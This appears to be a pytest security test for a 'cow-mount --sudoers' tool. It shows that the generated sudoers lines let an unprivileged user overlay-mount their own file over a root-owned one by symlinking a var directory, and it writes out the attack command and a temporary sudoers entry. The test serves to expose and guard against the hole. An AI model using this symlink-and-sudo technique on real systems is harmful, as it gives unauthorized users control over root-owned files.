"""What the lines of ``cow-mount --sudoers`` give away."""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Callable

from harness.buildout import Buildout
from harness.developer import Developers
from harness.production import Production

MakeBuildout = Callable[..., Buildout]


def test_the_lines_alone_put_a_file_of_the_users_over_roots(
    developers: Developers, make_buildout: MakeBuildout, production: Production, scratch: Path
) -> None:
    """Why they are told: mount follows a link in the user's var, and takes ``lower0`` from where it is called.

    In a mount namespace of its own, so that nothing else sees it.
    """
    alone = developers.alone
    production.give_to(alone.uid, alone.gid)
    buildout = make_buildout(alone, {"remote": str(production.path), "union": "overlay"})
    lines = buildout.run("mount", "--sudoers", check=True).stdout
    line = next(line for line in lines.splitlines() if "overlay" in line and line.endswith("var/blobstorage"))
    command = line.partition("NOPASSWD: ")[2].replace("\\", "")
    roots = scratch / "roots"
    roots.mkdir(mode=0o755)
    (roots / "file").write_text("root's")
    taken = scratch / "taken"
    for name in ("lower0", "upper", "work"):
        (taken / name).mkdir(parents=True)
    (taken / "upper" / "file").write_text("the user's")
    subprocess.run(["chown", "-R", f"{alone.uid}:{alone.gid}", str(taken)], check=True)
    buildout.blob_storage.rmdir()
    buildout.blob_storage.symlink_to(roots)
    attack = f"cd {taken} && sudo -n {command} && cat {roots}/file"
    sudoers = Path("/etc/sudoers.d/cowstorage-test-attack")
    try:
        sudoers.write_text(lines)
        sudoers.chmod(0o440)
        as_user = ["setpriv", f"--reuid={alone.uid}", f"--regid={alone.gid}", "--init-groups", "--", "sh", "-c", attack]
        result = developers.root.run(["unshare", "--mount", "--", *as_user])
    finally:
        sudoers.unlink()
    assert result.stdout == "the user's", result
    assert (roots / "file").read_text() == "root's"
